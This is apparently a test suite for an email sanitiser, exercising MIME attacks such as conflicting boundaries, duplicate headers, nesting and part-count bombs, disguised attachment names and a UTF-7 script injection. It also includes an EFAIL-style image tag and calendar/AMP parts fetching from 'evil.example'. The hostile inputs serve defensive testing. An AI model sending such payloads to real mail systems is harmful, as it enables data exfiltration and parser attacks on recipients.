// Attack catalogue, rows 26 to 41: the tree of a mail. Every outcome has been through the checker C1-C3, C6, C7.
import assert from 'node:assert/strict';
import { after, before, describe } from 'node:test';
import { LIMITS } from '../../src/message/limits.ts';
import { corpus, corpusFiles, row, seeded } from '../support/attack-row.ts';
import { openCanary, type Canary } from '../support/canary.ts';
import { openSanitiser, type Outcome, type Sanitiser } from '../support/sanitiser.ts';
import { withinQuiet } from '../support/slowness.ts';

let sanitiser: Sanitiser;
let canary: Canary;
before(async () => {
  [sanitiser, canary] = await Promise.all([openSanitiser(), openCanary()]);
});
after(async () => {
  await sanitiser[Symbol.asyncDispose]();
  await canary[Symbol.asyncDispose]();
});

const codes = (outcome: Outcome): string[] => outcome.parts.flatMap((part) => part.findings.map(({ code }) => code));
const verdicts = (outcome: Outcome): string[] =>
  outcome.parts.map((part) => `${part.path} ${part.verdict} ${part.reason ?? ''}`.trim());
const texts = (outcome: Outcome): string =>
  [...outcome.files]
    .filter(([name]) => name.endsWith('.txt'))
    .map(([, bytes]) => bytes.toString('utf8'))
    .join('\n');
const lines = (...all: string[]): string => all.join('\r\n');

/** A binary nobody knows, that must never be seen again. */
function payload(length = 3000): Buffer {
  const next = seeded(41);
  return Buffer.from(Array.from({ length }, () => Math.floor(next() * 256)));
}
const encoded = (bytes: Buffer): string => bytes.toString('base64').replace(/.{76}/g, '$&\r\n');

/** The files of a row, each to one of the ends, in bounded time. */
async function each(paths: readonly string[], look?: (outcome: Outcome, path: string) => void): Promise<void> {
  for (const path of paths) {
    const outcome = await sanitiser.mail(await corpus(path));
    assert.match(outcome.state, /^(sanitised|held|refused)$/, path);
    assert.ok(outcome.ms < 60_000, `${path}: ${outcome.ms} ms`);
    look?.(outcome, path);
  }
}

describe('MIME', () => {
  row(26, 'boundaries of two meanings: never a payload as text, and the odd ones are told', async () => {
    const part = lines(
      'Content-Type: application/octet-stream',
      'Content-Transfer-Encoding: base64',
      '',
      encoded(payload()),
    );
    const tree = (type: string, open: string, close: string): string =>
      lines(
        'From: a@example.com',
        'Subject: s',
        `Content-Type: ${type}`,
        '',
        open,
        'Content-Type: text/plain',
        '',
        'body',
        open,
        part,
        close,
        '',
      );
    for (const [type, open, close, told] of [
      ['multipart/mixed; boundary=a; boundary=b', '--a', '--a--', true],
      ['multipart/mixed; boundary=b; boundary=a', '--a', '--a--', true],
      ['multipart/mixed; boundary="a', '--a', '--a--', false],
      ['multipart/mixed; boundary=a (b)', '--a', '--a--', false],
      ['multipart/mixed; boundary="a "', '--a ', '--a --', false],
      ['multipart/mixed; boundary=a', '--a\t', '--a--', false],
      ['multipart/mixed; boundary=a', '--ab', '--ab--', false],
      ["multipart/mixed; boundary*=utf-8''a", '--a', '--a--', false],
      ['multipart/mixed; boundary*0=a; boundary*1=b', '--ab', '--ab--', false],
      ['multipart/mixed', '--a', '--a--', false],
      ['multipart/mixed; boundary=""', '--', '----', false],
      ['multipart/mixed; boundary=a', '\r--a', '--a--', false],
    ] as const) {
      const outcome = await sanitiser.mail(tree(type, open, close));
      if (told) assert.ok(codes(outcome).includes('duplicate-header'), `${type}: ${codes(outcome).join(' ')}`);
    }
    await each([
      'mail/mime-tools/double-boundary.eml',
      'mail/mime4j/boundary-name-clash.eml',
      'mail/mime4j/weird-boundary.eml',
    ]);
  });

  row(27, 'two structural headers are told, and neither reading lets the payload through', async () => {
    for (const [one, two] of [
      ['text/plain', 'application/zip'],
      ['application/zip', 'text/plain'],
    ] as const) {
      const outcome = await sanitiser.mail(
        lines(
          'From: a@example.com',
          'Content-Type: multipart/mixed; boundary=a',
          '',
          '--a',
          'Content-Type: text/plain',
          '',
          'body',
          '--a',
          `Content-Type: ${one}`,
          `Content-Type: ${two}`,
          'Content-Transfer-Encoding: base64',
          'Content-Transfer-Encoding: 7bit',
          'Content-Disposition: attachment; filename=a.txt',
          'Content-Disposition: inline; filename=b.zip',
          '',
          encoded(payload()),
          '--a--',
          '',
        ),
      );
      assert.ok(codes(outcome).includes('duplicate-header'), codes(outcome).join(' '));
    }
    await each(['mail/mime-tools/double-content-type.eml', 'mail/mime-tools/double-content-transfer-encoding.eml']);
  });

  row(
    28,
    'encodings that are unknown, broken or in the wrong place: read leniently or refused, never passed through',
    async () => {
      const attached = (encoding: string): string =>
        lines(
          'From: a@example.com',
          'Content-Type: multipart/mixed; boundary=a',
          '',
          '--a',
          'Content-Type: text/plain',
          '',
          'body',
          '--a',
          'Content-Type: application/octet-stream; name=x.bin',
          `Content-Transfer-Encoding: ${encoding}`,
          '',
          encoded(payload()),
          '--a--',
          '',
        );
      for (const encoding of ['x-gzip64', 'base-64', 'uuencode', 'x-yencode', 'BASE64 '])
        assert.equal((await sanitiser.mail(attached(encoding))).state, 'sanitised', encoding);
      // Said to be plain, and so it is: the letters are the text. Nothing of it is decoded, here or by whoever gets it.
      for (const encoding of ['7bit', '8bit', 'binary', '', 'quoted-printable, base64']) {
        const outcome = await sanitiser.judge('mail', '', Buffer.from(attached(encoding)));
        assert.deepEqual(
          outcome.faults.filter((fault) => !fault.includes('an encoded payload')),
          [],
        );
        for (const name of outcome.files.keys()) assert.match(name, /\.txt$/);
      }
      for (const broken of [
        encoded(payload()).replaceAll('A', '=A'),
        encoded(payload()).replaceAll('\r\n', '\r\n>'),
        `====${encoded(payload())}`,
        encoded(payload()).replace(/.{4}/g, '$& '),
      ])
        await sanitiser.mail(
          lines(
            'From: a@example.com',
            'Content-Type: application/pdf; name=x.pdf',
            'Content-Transfer-Encoding: base64',
            '',
            broken,
          ),
        );
      await each([
        ...corpusFiles('mail/mikel-mail', /content_transfer_encoding/),
        ...corpusFiles('mail/mime4j', /^base64encoded-rfc822message/),
      ]);
    },
  );

  row(29, 'names in every form of two meanings: the type comes from the bytes, the name is made anew', async () => {
    const png = await corpus('image/pngsuite/basn2c08.png');
    for (const name of [
      'name="a.pdf"',
      'name=a.exe; filename=b.pdf',
      "name*=utf-8''a%2Eexe",
      'name*0=a.; name*1=exe',
      'name="=?utf-8?B?YS5leGU=?="',
      'name="a.png"; name="b.exe"',
      'name="..\\\\..\\\\a.exe"',
      'name="a.png\\0.exe"',
      `name="${'x'.repeat(4000)}.exe"`,
    ]) {
      const outcome = await sanitiser.mail(
        lines(
          'From: a@example.com',
          'Content-Type: multipart/mixed; boundary=a',
          '',
          '--a',
          `Content-Type: application/x-msdownload; ${name}`,
          'Content-Transfer-Encoding: base64',
          '',
          encoded(png),
          '--a--',
          '',
        ),
      );
      const [output] = [...outcome.files.keys()].filter((file) => file.startsWith('files/'));
      assert.match(output ?? '', /\.(png|jpg)$/, name);
    }
    await each([
      'mail/mime-tools/double-content-disposition-param.eml',
      'mail/mime4j/multi-badnames.eml',
      'mail/mime4j/dup-names.eml',
    ]);
  });

  row(
    30,
    'nesting bombs: multiparts and mails at the limit, one above and far above; the stack does not grow',
    async () => {
      const multiparts = (depth: number): string =>
        `From: a@example.com\r\n${Array.from({ length: depth }, (_, i) => `Content-Type: multipart/mixed; boundary=b${i}\r\n\r\n--b${i}\r\n`).join('')}\r\ndeep`;
      const mails = (depth: number): string =>
        `From: a@example.com\r\n${'Content-Type: message/rfc822\r\n\r\nFrom: b@example.com\r\n'.repeat(depth)}\r\ndeep`;
      for (const depth of [LIMITS.mimeDepth, LIMITS.mimeDepth + 1, 10_000, 100_000]) {
        const outcome = await sanitiser.mail(multiparts(depth));
        assert.ok(withinQuiet(outcome.ms, 10_000), `${depth} multiparts: ${outcome.ms} ms`);
        if (depth > LIMITS.mimeDepth)
          assert.ok(
            outcome.state === 'refused' || verdicts(outcome).some((verdict) => verdict.includes('too-deep')),
            verdicts(outcome).join(', '),
          );
      }
      for (const depth of [LIMITS.depth, LIMITS.depth + 1, 1000, 10_000]) {
        const outcome = await sanitiser.mail(mails(depth));
        assert.ok(withinQuiet(outcome.ms, 20_000), `${depth} mails: ${outcome.ms} ms`);
        assert.equal(
          verdicts(outcome).some((verdict) => verdict.endsWith('too-deep')),
          depth > LIMITS.depth,
          `${depth}: ${verdicts(outcome).join(', ')}`,
        );
      }
      await each([
        'mail/mimekit/stack-overflow.eml',
        'mail/mikel-mail/mime_emails-raw_email_encoded_stack_level_too_deep.eml',
        'mail/mailparser/htmllargecallstack.eml',
      ]);
    },
  );

  row(31, 'parts at the limit, one above and 10^5: linear time, one notice', async () => {
    const parts = (count: number): string =>
      `From: a@example.com\r\nContent-Type: multipart/mixed; boundary=a\r\n\r\n${'--a\r\nContent-Type: text/plain\r\n\r\nx\r\n'.repeat(count)}--a--\r\n`;
    for (const count of [LIMITS.parts - 1, LIMITS.parts + 1, 100_000]) {
      const outcome = await sanitiser.mail(parts(count));
      assert.ok(withinQuiet(outcome.ms, 30_000), `${count}: ${outcome.ms} ms`);
      assert.ok(outcome.parts.length <= LIMITS.parts + 1);
      if (count > LIMITS.parts) {
        assert.equal(outcome.reason, 'too-many-parts');
        assert.equal((outcome.text.match(/too-many-parts|部品が多すぎ|多すぎ/g) ?? []).length <= 2, true);
      }
    }
    await each(['mail/mime4j/long-multipart.eml', 'mail/mime4j/infinite.eml']);
  });

  row(32, 'pieces of a cut mail are never joined, and each is held with its reason', async () => {
    const piece = (number: number): string =>
      lines(
        'From: a@example.com',
        `Content-Type: message/partial; id="x"; number=${number}; total=2`,
        '',
        'From: b@example.com',
        'Content-Transfer-Encoding: base64',
        '',
        encoded(payload()),
        '',
      );
    for (const number of [1, 2]) {
      const outcome = await sanitiser.mail(piece(number));
      assert.ok(
        verdicts(outcome).some((verdict) => verdict.endsWith('held unsupported-type')),
        verdicts(outcome).join(', '),
      );
    }
    await each([...corpusFiles('mail/mimekit-partial', /\.eml$/), 'mail/mime4j/frag.eml']);
  });

  row(33, 'an external body is not fetched: it is shown as what it is', async () => {
    for (const access of [
      `access-type=URL; URL="http://${canary.host}/x"`,
      `access-type=anon-ftp; site="${canary.host}"; name=x`,
      `access-type=local-file; name="${canary.secretPath}"`,
    ]) {
      const outcome = await sanitiser.mail(
        lines(
          'From: a@example.com',
          'Content-Type: multipart/mixed; boundary=a',
          '',
          '--a',
          `Content-Type: message/external-body; ${access}`,
          '',
          'Content-Type: image/png',
          'Content-ID: <x>',
          '',
          'phantom',
          '--a--',
          '',
        ),
      );
      assert.ok(!texts(outcome).includes(canary.secret));
    }
    assert.deepEqual(await canary.touched(), []);
  });

  row(34, 'winmail.dat: unpacked with a row for every file in it, or refused; never passed', async () => {
    for (const path of [
      ...corpusFiles('mail/mimekit-tnef', /\.(?:tnef|eml|dat)$/),
      ...corpusFiles('mail/poi-tnef', /./),
      'hostile/office-poi/hmef-oom.tnef',
    ]) {
      const tnef = await corpus(path);
      const direct = await sanitiser.file('winmail.dat', tnef);
      assert.match(direct.state, /^(sanitised|held|refused)$/, path);
      assert.ok(direct.ms < 60_000, path);
    }
  });

  row(
    35,
    'files that hide in text are found or left inert: no line begins a file that a mail program would decode',
    async () => {
      const uu = lines('begin 644 evil.exe', ...Array.from({ length: 20 }, () => `M${'0'.repeat(60)}`), '`', 'end');
      for (const text of [
        uu,
        `before\r\n${uu}\r\nafter`,
        uu.replace('644', '0644'),
        lines('=ybegin line=128 size=3 name=evil.exe', 'abc', '=yend size=3'),
        lines('(This file must be converted with BinHex 4.0)', ':abc:'),
      ]) {
        const outcome = await sanitiser.mail(lines('From: a@example.com', 'Content-Type: text/plain', '', text, ''));
        assert.doesNotMatch(texts(outcome), /^begin 0?[0-7]{3} \S/m);
      }
      await each(['mail/mime-tools/uu-junk.eml', 'mail/mime4j/sig-uu.eml', 'mail/mimekit-enc/simple.msg'], (outcome) =>
        assert.doesNotMatch(texts(outcome), /^begin 0?[0-7]{3} \S/m),
      );
    },
  );

  row(36, 'charsets that lie: text only, UTF-7 is never markup, Japanese is right', async () => {
    const utf7 = await sanitiser.mail(
      lines(
        'From: a@example.com',
        'Content-Type: text/html; charset=utf-7',
        '',
        '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
        '',
      ),
    );
    assert.doesNotMatch(texts(utf7), /<script/);
    const halfWidth = Buffer.concat([
      Buffer.from('From: a@example.com\r\nContent-Type: text/plain; charset=iso-2022-jp\r\n\r\n'),
      Buffer.from('1b2849', 'hex'),
      Buffer.from('363646', 'hex'),
      Buffer.from('1b2842', 'hex'),
      Buffer.from('\r\n'),
    ]);
    assert.match((await sanitiser.mail(halfWidth)).text, /ｶｶﾆ/);
    const sjis = Buffer.concat([
      Buffer.from('From: a@example.com\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n'),
      Buffer.from('8cf6955c', 'hex'),
      Buffer.from('\r\n'),
    ]);
    assert.match((await sanitiser.mail(sjis)).text, /公表/);
    await each(corpusFiles('mail/mikel-mail', /^multi_charset-japanese/));
    assert.match(
      (await sanitiser.file('a.html', await corpus('hostile/markup-tika/testArabicMisleadingCharset.html'))).state,
      /^(sanitised|refused)$/,
    );
  });

  row(37, 'alternatives that differ: one documented choice, and the other is told', async () => {
    const outcome = await sanitiser.mail(
      lines(
        'From: a@example.com',
        'Content-Type: multipart/alternative; boundary=a',
        '',
        '--a',
        'Content-Type: text/plain',
        '',
        'harmless',
        '--a',
        'Content-Type: text/html',
        '',
        '<p>pay now</p>',
        '--a--',
        '',
      ),
    );
    assert.match(outcome.text, /harmless/);
    assert.ok(
      codes(outcome).some((code) => code.startsWith('alternative')),
      codes(outcome).join(' '),
    );
    await each(corpusFiles('mail/rspamd', /^alternative-.*\.eml$/));
  });

  row(38, 'what stands before, between and behind the parts runs nowhere: text or nothing', async () => {
    const outcome = await sanitiser.mail(
      lines(
        'From: a@example.com',
        'Content-Type: multipart/mixed; boundary=a',
        '',
        '<script>preamble</script>',
        encoded(payload()),
        '--a',
        'Content-Type: text/plain',
        '',
        'body',
        '--a--',
        encoded(payload()),
        '--a',
        'Content-Type: text/html',
        '',
        '<script>late</script>',
        '--a--',
        '',
      ),
    );
    assert.match(outcome.text, /body/);
    await each(['mail/mimekit/epilogue.eml', 'mail/mime4j/misplaced-boundary.eml']);
  });

  row(39, 'signed mail is read and its signature not vouched for; encrypted mail is not passed on', async () => {
    for (const path of ['mail/tika/testPKCS7_signed_data_def.p7m', 'mail/tika/testPGPEncrypted.gpg']) {
      const outcome = await sanitiser.file(path.split('/').at(-1) ?? '', await corpus(path));
      assert.match(outcome.state, /^(sanitised|held|refused)$/);
    }
    const encrypted = await sanitiser.mail(
      lines(
        'From: a@example.com',
        'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m',
        'Content-Transfer-Encoding: base64',
        '',
        encoded(Buffer.concat([Buffer.from('3080', 'hex'), payload()])),
        '',
      ),
    );
    assert.ok(
      encrypted.parts.every((part) => part.verdict === 'refused' || part.verdict === 'held'),
      verdicts(encrypted).join(', '),
    );
    // EFAIL: no decrypted text in a URL. Nothing is decrypted, and the parts around are text.
    const efail = await sanitiser.mail(
      lines(
        'From: a@example.com',
        'Content-Type: multipart/mixed; boundary=a',
        '',
        '--a',
        'Content-Type: text/html',
        '',
        `<img src="http://${canary.host}/`,
        '--a',
        'Content-Type: text/plain',
        '',
        '-----BEGIN PGP MESSAGE-----',
        '',
        'aGVsbG8=',
        '-----END PGP MESSAGE-----',
        '--a',
        'Content-Type: text/html',
        '',
        '">',
        '--a--',
        '',
      ),
    );
    assert.equal(efail.state, 'sanitised');
    assert.deepEqual(await canary.touched(), []);
    await each(['mail/mimekit-enc/thunderbird-signed.txt']);
  });

  row(
    40,
    'mails within mails share depth, size and count with the outer one; reminders with UNC paths are inert',
    async () => {
      for (const path of corpusFiles('mail/outlook-msg', /\.msg$/)) {
        const outcome = await sanitiser.file(path.split('/').at(-1) ?? '', await corpus(path));
        assert.match(outcome.state, /^(sanitised|held|refused)$/, path);
      }
      await each(['mail/mikel-mail/attachment_emails-attachment_message_rfc822.eml']);
      // 40 mails of 40 parts each: together over the limit of parts.
      const inner = lines(
        'From: b@example.com',
        'Content-Type: multipart/mixed; boundary=i',
        '',
        ...Array.from({ length: 40 }, () =>
          lines('--i', 'Content-Type: text/plain; name=x.txt', 'Content-Disposition: attachment', '', 'x'),
        ),
        '--i--',
        '',
      );
      const outer = lines(
        'From: a@example.com',
        'Content-Type: multipart/mixed; boundary=o',
        '',
        ...Array.from({ length: 40 }, () => lines('--o', 'Content-Type: message/rfc822', '', inner)),
        '--o--',
        '',
      );
      const outcome = await sanitiser.mail(outer);
      assert.ok(outcome.parts.length <= LIMITS.parts + 50, `${outcome.parts.length} rows`);
      assert.ok(
        outcome.state === 'refused' || verdicts(outcome).some((verdict) => verdict.endsWith('too-many-parts')),
        outcome.state,
      );
    },
  );

  row(41, 'calendars, cards and AMP are never passed on as such', async () => {
    for (const [type, body] of [
      ['text/calendar; method=REQUEST', 'BEGIN:VCALENDAR\r\nATTACH:http://evil.example/x\r\nEND:VCALENDAR'],
      ['text/vcard', 'BEGIN:VCARD\r\nFN:x\r\nEND:VCARD'],
      ['text/x-amp-html', '<html ⚡4email><body><amp-img src="http://evil.example/x"></body></html>'],
    ] as const) {
      const outcome = await sanitiser.mail(
        lines(
          'From: a@example.com',
          'Content-Type: multipart/mixed; boundary=a',
          '',
          '--a',
          'Content-Type: text/plain',
          '',
          'body',
          '--a',
          `Content-Type: ${type}; name=x`,
          '',
          body,
          '--a--',
          '',
        ),
      );
      for (const name of outcome.files.keys()) assert.match(name, /\.txt$/, type);
      assert.doesNotMatch(texts(outcome), /<amp-img/);
    }
    await each(['mail/rspamd/ics.eml', 'mail/postal-mime/calendar-event.eml']);
  });
});
